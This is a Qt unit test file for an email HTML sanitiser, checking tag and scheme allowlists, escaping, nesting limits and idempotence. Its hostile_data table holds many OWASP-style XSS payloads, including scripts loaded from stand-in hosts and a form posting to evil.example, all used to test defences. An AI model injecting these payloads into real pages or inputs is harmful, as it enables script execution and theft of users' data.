#include "mail/htmlsanitizer.h"

#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTest>

namespace {

/// Checks the sanitiser's output structurally: every '<' in it opens a tag
/// it wrote itself (text is escaped), so each tag and attribute can be read
/// with a strict pattern and held against the allowlist.
QString violation(const QString &output)
{
    static const QSet<QString> tags
        = {QStringLiteral("p"),     QStringLiteral("br"),         QStringLiteral("div"),
           QStringLiteral("span"),  QStringLiteral("b"),          QStringLiteral("strong"),
           QStringLiteral("i"),     QStringLiteral("em"),         QStringLiteral("u"),
           QStringLiteral("s"),     QStringLiteral("ul"),         QStringLiteral("ol"),
           QStringLiteral("li"),    QStringLiteral("blockquote"), QStringLiteral("pre"),
           QStringLiteral("code"),  QStringLiteral("h1"),         QStringLiteral("h2"),
           QStringLiteral("h3"),    QStringLiteral("h4"),         QStringLiteral("h5"),
           QStringLiteral("h6"),    QStringLiteral("table"),      QStringLiteral("thead"),
           QStringLiteral("tbody"), QStringLiteral("tr"),         QStringLiteral("td"),
           QStringLiteral("th"),    QStringLiteral("hr"),         QStringLiteral("a"),
           QStringLiteral("img")};
    static const QSet<QString> attributes
        = {QStringLiteral("href"),  QStringLiteral("src"),     QStringLiteral("alt"),
           QStringLiteral("title"), QStringLiteral("colspan"), QStringLiteral("rowspan")};
    static const QRegularExpression tagPattern(
        QStringLiteral("<(/?)([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)>"));
    static const QRegularExpression attributePattern(QStringLiteral(" ([a-z]+)=\"([^\"]*)\""));

    qsizetype pos = 0;
    while ((pos = output.indexOf(QLatin1Char('<'), pos)) >= 0) {
        const QRegularExpressionMatch tag = tagPattern.match(output, pos, QRegularExpression::NormalMatch,
                                                             QRegularExpression::AnchorAtOffsetMatchOption);
        if (!tag.hasMatch())
            return QStringLiteral("unparseable tag at %1: %2").arg(pos).arg(output.mid(pos, 40));
        const QString name = tag.captured(2);
        if (!tags.contains(name))
            return QStringLiteral("tag not on the allowlist: ") + name;
        QRegularExpressionMatchIterator it = attributePattern.globalMatch(tag.captured(3));
        while (it.hasNext()) {
            const QRegularExpressionMatch attribute = it.next();
            const QString key = attribute.captured(1);
            QString value = attribute.captured(2);
            value.replace(QLatin1String("&amp;"), QLatin1String("&"));
            if (!attributes.contains(key))
                return QStringLiteral("attribute not on the allowlist: ") + key;
            if (key == QLatin1String("src")
                && (name != QLatin1String("img") || !value.startsWith(QLatin1String("cid:"))))
                return QStringLiteral("non-cid image source: ") + value;
            if (key == QLatin1String("href")) {
                if (name != QLatin1String("a"))
                    return QStringLiteral("href outside <a>");
                const QString lower = value.toLower();
                if (!lower.startsWith(QLatin1String("http://"))
                    && !lower.startsWith(QLatin1String("https://"))
                    && !lower.startsWith(QLatin1String("mailto:")))
                    return QStringLiteral("link with a forbidden scheme: ") + value;
            }
        }
        pos = tag.capturedEnd();
    }
    const QString lower = output.toLower();
    if (lower.contains(QLatin1String("<script")) || lower.contains(QLatin1String("<style"))
        || lower.contains(QLatin1String("<iframe")) || lower.contains(QLatin1String("<svg")))
        return QStringLiteral("a forbidden element survived");
    return {};
}

} // namespace

class TestHtmlSanitizer : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void hostile_data();
    void hostile();
    void naughtyStrings();
    void benignFormattingSurvives();
    void textIsEscaped();
    void linksKeptOnlyForSafeSchemes_data();
    void linksKeptOnlyForSafeSchemes();
    void imagesOnlyFromOwnParts();
    void droppedElementsLoseTheirContent();
    void deepNestingDoesNotCrash();
    void idempotent();
    void plainText();
    void benchmarkNewsletter();
};

void TestHtmlSanitizer::hostile_data()
{
    QTest::addColumn<QString>("html");
    // OWASP XSS filter evasion cheat sheet style cases.
    const char *cases[] = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x "
        "onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#"
        "0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#"
        "0000083&#0000039&#0000041\">",
        "<a "
        "href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#"
        "40;&#39;&#88;&#83;&#83;&#39;&#41;\">x</a>",
        "<a "
        "href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#"
        "x58&#x53&#x53&#x27&#x29\">x</a>",
        "<a href=\"jav\tascript:alert('XSS');\">x</a>",
        "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
        "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>",
        "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"\x01javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"JAVASCRIPT&colon;alert(1)\">x</a>",
        "<a href=\"//evil.example/\">protocol-relative</a>",
        "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
        "<SCRIPT SRC=http://xss.example/xss.js?< B >",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<iframe src=http://xss.example/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<svg/onload=alert('XSS')>",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<BODY ONLOAD=alert('XSS')>",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.example/xss.css>; REL=stylesheet\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html "
        "base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD "
        "BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<span style=\"behavior: url(xss.htc)\">x</span>",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<base href=\"http://evil.example/\"><a href=\"page\">relative</a>",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" type=\"image/svg+xml\"></EMBED>",
        "<form action=\"http://evil.example/\"><input name=pin><button>Send</button></form>",
        "<img src=\"http://tracker.example/pixel.gif\" width=\"1\" height=\"1\">",
        "<img src=\"https://tracker.example/open?id=42\" style=\"display:none\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "<img src=\"cid:not-ours@example\">",
        "<img src=\"file:///etc/passwd\">",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><script>alert(1)</script></textarea>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<div><b><i><u>unclosed <a href=\"javascript:1\">x",
        "<p title=\"x\" onclick=\"alert(1)\" onmouseover=alert(2)>t</p>",
        "<a href=\"http://ok.example/\" onclick=\"steal()\" target=_blank>ok</a>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<a href=\"https://bank.example/\" title=\"&quot; onmouseover=&quot;alert(1)\">t</a>",
        "<img src=\"cid:logo\" onerror=\"alert(1)\" alt=\"\" style=\"x\">",
        "<td colspan=\"2 onclick=alert(1)\">x</td>",
        "<a href=\"http://[::1\">broken url</a>",
        "<isindex action=javascript:alert(1) type=image>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<details open ontoggle=alert(1)>x</details>",
    };
    int i = 0;
    for (const char *html : cases)
        QTest::addRow("owasp-%02d", i++) << QString::fromUtf8(html);
}

void TestHtmlSanitizer::hostile()
{
    QFETCH(QString, html);
    const QString out = HtmlSanitizer::sanitize(html, {QStringLiteral("logo")});
    QVERIFY2(violation(out).isEmpty(), qPrintable(violation(out) + QStringLiteral(" in: ") + out));
}

void TestHtmlSanitizer::naughtyStrings()
{
    QFile file(QStringLiteral(CARDDESK_MAIL_TESTDATA "/blns-subset.json"));
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QJsonArray strings
        = QJsonDocument::fromJson(file.readAll()).object().value(QStringLiteral("strings")).toArray();
    QVERIFY(strings.size() > 300);
    for (const QJsonValue &value : strings) {
        const QString naughty = value.toString();
        // As a body, inside an attribute, inside a link and after a tag.
        const QStringList wrapped = {
            naughty,
            QStringLiteral("<p title=\"%1\">x</p>").arg(naughty),
            QStringLiteral("<a href=\"%1\">link</a>").arg(naughty),
            QStringLiteral("<div>%1<b>bold</b></div>").arg(naughty),
            QStringLiteral("<img src=\"%1\">").arg(naughty),
        };
        // Without markup of its own, the string is text: kept, and what follows survives.
        if (!naughty.contains(QLatin1Char('<'))) {
            QVERIFY(HtmlSanitizer::toPlainText(wrapped.at(3)).contains(QLatin1String("bold")));
            QVERIFY(HtmlSanitizer::sanitize(wrapped.at(3)).endsWith(QLatin1String("<b>bold</b></div>")));
        }
        for (const QString &html : wrapped) {
            const QString out = HtmlSanitizer::sanitize(html);
            QVERIFY2(violation(out).isEmpty(), qPrintable(violation(out) + QStringLiteral(" for: ") + html));
        }
    }
}

void TestHtmlSanitizer::benignFormattingSurvives()
{
    const QString html = QStringLiteral(
        "<html><head><title>T</title><style>p{color:red}</style></head><body>"
        "<h1>Hei Maija</h1><p>Your <b>new</b> <i>card</i> is <strong>on its way</strong>.</p>"
        "<ul><li>one</li><li>two</li></ul><ol><li>a</li></ol>"
        "<blockquote>quoted</blockquote><pre>  pre  </pre><code>x</code><hr>"
        "<table><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan=\"2\" "
        "rowspan=\"3\">c</td></tr></tbody></table>"
        "<p><a href=\"https://bank.example/card?x=1&amp;y=2\" title=\"Bank\">link</a> <u>u</u> <s>s</s> "
        "<em>em</em>"
        "<span>span</span><br></p><img src=\"cid:logo@bank\" alt=\"Logo\"></body></html>");
    const QString out = HtmlSanitizer::sanitize(html, {QStringLiteral("logo@bank")});
    QVERIFY2(violation(out).isEmpty(), qPrintable(out));
    QVERIFY(out.contains(QLatin1String("<h1>Hei Maija</h1>")));
    QVERIFY(
        out.contains(QLatin1String("<p>Your <b>new</b> <i>card</i> is <strong>on its way</strong>.</p>")));
    QVERIFY(out.contains(QLatin1String("<ul><li>one</li><li>two</li></ul><ol><li>a</li></ol>")));
    QVERIFY(out.contains(QLatin1String("<blockquote>quoted</blockquote>")));
    QVERIFY(out.contains(QLatin1String("<pre>  pre  </pre>")));
    QVERIFY(out.contains(QLatin1String("<code>x</code><hr>")));
    QVERIFY(out.contains(QLatin1String("<th>h</th>")));
    QVERIFY(out.contains(QLatin1String("<td colspan=\"2\" rowspan=\"3\">c</td>")));
    QVERIFY(out.contains(
        QLatin1String("<a href=\"https://bank.example/card?x=1&amp;y=2\" title=\"Bank\">link</a>")));
    QVERIFY(out.contains(QLatin1String("<u>u</u> <s>s</s> <em>em</em><span>span</span><br>")));
    QVERIFY(out.contains(QLatin1String("<img src=\"cid:logo@bank\" alt=\"Logo\">")));
    QVERIFY(!out.contains(QLatin1String("color:red")));
    QVERIFY(!out.contains(QLatin1String(">T<"))); // the title is dropped with the head
}

void TestHtmlSanitizer::textIsEscaped()
{
    const QString out = HtmlSanitizer::sanitize(QStringLiteral(
        "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &quot;q&quot; &lt;script&gt;alert(1)&lt;/script&gt; ä €</p>"));
    QCOMPARE(out,
             QStringLiteral(
                 "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 \"q\" &lt;script&gt;alert(1)&lt;/script&gt; ä €</p>"));
    const QString attribute = HtmlSanitizer::sanitize(QStringLiteral("<p title='a\"b<c>&amp;'>x</p>"));
    QCOMPARE(attribute, QStringLiteral("<p title=\"a&quot;b&lt;c&gt;&amp;\">x</p>"));
}

void TestHtmlSanitizer::linksKeptOnlyForSafeSchemes_data()
{
    QTest::addColumn<QString>("href");
    QTest::addColumn<QString>("expected");
    QTest::addRow("https") << QStringLiteral("https://bank.example/")
                           << QStringLiteral("https://bank.example/");
    QTest::addRow("http") << QStringLiteral("http://bank.example/a")
                          << QStringLiteral("http://bank.example/a");
    QTest::addRow("mailto") << QStringLiteral("mailto:help@bank.example")
                            << QStringLiteral("mailto:help@bank.example");
    QTest::addRow("trimmed") << QStringLiteral("  https://bank.example/ ")
                             << QStringLiteral("https://bank.example/");
    QTest::addRow("upper-case") << QStringLiteral("HTTPS://bank.example/")
                                << QStringLiteral("HTTPS://bank.example/");
    QTest::addRow("javascript") << QStringLiteral("javascript:alert(1)") << QString();
    QTest::addRow("leading-space") << QStringLiteral(" javascript:alert(1)") << QString();
    QTest::addRow("tab-entity") << QStringLiteral("java&#x09;script:alert(1)") << QString();
    QTest::addRow("newline-entity") << QStringLiteral("java&#10;script:alert(1)") << QString();
    QTest::addRow("colon-entity") << QStringLiteral("javascript&colon;alert(1)") << QString();
    QTest::addRow("vbscript") << QStringLiteral("VBScript:msgbox") << QString();
    QTest::addRow("data") << QStringLiteral("data:text/html,<script>alert(1)</script>") << QString();
    QTest::addRow("relative") << QStringLiteral("/account") << QString();
    QTest::addRow("protocol-relative") << QStringLiteral("//evil.example/") << QString();
    QTest::addRow("ftp") << QStringLiteral("ftp://files.example/") << QString();
    QTest::addRow("http-no-host") << QStringLiteral("http:alert(1)") << QString();
}

void TestHtmlSanitizer::linksKeptOnlyForSafeSchemes()
{
    QFETCH(QString, href);
    QFETCH(QString, expected);
    const QString out = HtmlSanitizer::sanitize(QStringLiteral("<a href=\"%1\">go</a>").arg(href));
    if (expected.isEmpty())
        QCOMPARE(out, QStringLiteral("go")); // unwrapped: the text stays, the link goes
    else
        QCOMPARE(out, QStringLiteral("<a href=\"%1\">go</a>").arg(expected));
}

void TestHtmlSanitizer::imagesOnlyFromOwnParts()
{
    const QSet<QString> ids = {QStringLiteral("receipt@mail"), QStringLiteral("logo 1")};
    QCOMPARE(HtmlSanitizer::sanitize(QStringLiteral("<img src=\"cid:receipt@mail\">"), ids),
             QStringLiteral("<img src=\"cid:receipt@mail\">"));
    QCOMPARE(HtmlSanitizer::sanitize(QStringLiteral("<img src=\"CID:logo%201\">"), ids),
             QStringLiteral("<img src=\"cid:logo%201\">"));
    QCOMPARE(HtmlSanitizer::sanitize(QStringLiteral("<img src=\"cid:other@mail\">"), ids), QString());
    QCOMPARE(HtmlSanitizer::sanitize(QStringLiteral("<img src=\"https://t.example/p.gif\" width=1 height=1>"),
                                     ids),
             QString());
    QCOMPARE(
        HtmlSanitizer::sanitize(QStringLiteral("<img src=\"https://cdn.example/a.png\" alt=\"Offer\">"), ids),
        QStringLiteral("[Offer]"));
}

void TestHtmlSanitizer::droppedElementsLoseTheirContent()
{
    const QString out = HtmlSanitizer::sanitize(QStringLiteral(
        "<p>before</p><script>var secret=1;</script><style>.x{}</style><iframe>frame text</iframe>"
        "<form>form text<input value=v></form><svg><text>svg text</text></svg><noscript>ns</noscript>"
        "<object>obj</object><template>tpl</template><select><option>opt</option></select>"
        "<font face=x>unwrapped</font><center>centred</center><p>after</p>"));
    QCOMPARE(out, QStringLiteral("<p>before</p>unwrapped<div>centred</div><p>after</p>"));
}

void TestHtmlSanitizer::deepNestingDoesNotCrash()
{
    // gumbo is quadratic in nesting depth; these would take minutes or
    // exhaust memory if they reached it unguarded.
    const char *patterns[] = {"<div><span>", "<b>", "<i><b>", "<div></span>", "<table><tr><td>"};
    for (const char *pattern : patterns) {
        QString html = QStringLiteral("<p onclick=x>hello & <script>alert(1)</script>\n");
        for (int i = 0; i < 100000; ++i)
            html += QLatin1String(pattern);
        html += QLatin1String("deep");
        QElapsedTimer timer;
        timer.start();
        const QString out = HtmlSanitizer::sanitize(html);
        const QString plain = HtmlSanitizer::toPlainText(html);
        QVERIFY2(timer.elapsed() < 30000, pattern);   // catches a hang, not speed
        QVERIFY(out.contains(QLatin1String("deep")));
        QVERIFY(out.contains(QLatin1String("hello &amp; ")));
        QVERIFY2(violation(out).isEmpty(), qPrintable(out.left(200)));
        QVERIFY(plain.contains(QLatin1String("deep")));
    }
    // Real mail nests a few dozen levels and is parsed normally.
    QString html;
    for (int i = 0; i < 200; ++i)
        html += QLatin1String("<div>");
    html += QLatin1String("<b>kept</b>");
    QVERIFY(HtmlSanitizer::sanitize(html).contains(QLatin1String("<b>kept</b>")));
}

void TestHtmlSanitizer::idempotent()
{
    const QString html = QStringLiteral(
        "<div><p title=\"&lt;x&gt;\">a &amp; b<br><a href=\"https://x.example/?a=1&amp;b=2\">l</a>"
        "<img src=\"cid:c1\" alt=\"&quot;\"></p><table><tr><td>1</td></tr></table></div>");
    const QSet<QString> ids = {QStringLiteral("c1")};
    const QString once = HtmlSanitizer::sanitize(html, ids);
    QCOMPARE(HtmlSanitizer::sanitize(once, ids), once);
}

void TestHtmlSanitizer::plainText()
{
    const QString plain = HtmlSanitizer::toPlainText(QStringLiteral(
        "<html><head><style>p{}</style><title>t</title></head><body><h1>Hello</h1>"
        "<p>Line   one\n continues</p><p>Line two<br>Line three</p><ul><li>a</li><li>b</li></ul>"
        "<script>alert(1)</script><pre>  keep  "
        "spaces</pre><table><tr><td>x</td><td>y</td></tr></table></body></html>"));
    QCOMPARE(
        plain,
        QStringLiteral("Hello\nLine one continues\nLine two\nLine three\n• a\n• b\n  keep  spaces\nx y"));
}

void TestHtmlSanitizer::benchmarkNewsletter()
{
    // A typical newsletter: a few tables, styles, tracking pixels, 40 KB.
    QString html = QStringLiteral("<html><head><style>.btn{color:#fff}</style></head><body>"
                                  "<img src=\"https://t.example/open.gif\" width=1 height=1>");
    for (int i = 0; i < 100; ++i) {
        html += QStringLiteral(
                    "<table width=\"600\" style=\"border:0\"><tr><td class=\"hero\" style=\"padding:8px\">"
                    "<h2 style=\"font-family:Arial\">Offer %1</h2><p>Earn <b>double points</b> at partner "
                    "stores this week &ndash; see <a href=\"https://shop.example/offer/%1?utm_source=mail\" "
                    "onclick=\"track(%1)\">the details</a>.</p><img src=\"https://cdn.example/%1.jpg\" "
                    "alt=\"Offer %1\"></td></tr></table>")
                    .arg(i);
    }
    html += QStringLiteral("</body></html>");
    QVERIFY(html.size() > 30000);
    QString out;
    QBENCHMARK
    {
        out = HtmlSanitizer::sanitize(html);
    }
    QVERIFY(out.contains(QLatin1String("<b>double points</b>")));
    QVERIFY(violation(out).isEmpty());
}

QTEST_GUILESS_MAIN(TestHtmlSanitizer)
#include "tst_htmlsanitizer.moc"
